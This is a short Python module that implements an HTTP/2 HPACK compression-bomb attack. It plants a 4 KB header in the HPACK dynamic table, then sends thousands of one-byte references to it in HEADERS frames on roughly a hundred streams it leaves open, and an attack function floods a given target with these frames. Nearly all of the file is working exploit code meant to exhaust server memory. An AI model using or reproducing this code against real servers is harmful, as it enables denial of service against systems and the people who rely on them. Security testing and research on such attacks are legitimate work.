# SPDX-License-Identifier: Apache-2.0
"""The HTTP/2 bomb: one field of 4 KB goes into the HPACK table, and thousands of references of one byte call it up again."""
from lib.flood import headers, request_block
from lib.http2 import END_HEADERS, FRAME_MAX, hpack_text

REFERENCES = 10000


def bombs():
    planted = b"\x40" + hpack_text("x") + hpack_text("v" * 4000)
    for stream in range(1, 200, 2):  # without an end: each would be held
        block = request_block() + (planted if stream == 1 else b"") + b"\xbe" * REFERENCES
        assert len(block) < FRAME_MAX
        yield headers(stream, block, END_HEADERS)


def attack(target):
    return target.flood(bombs)
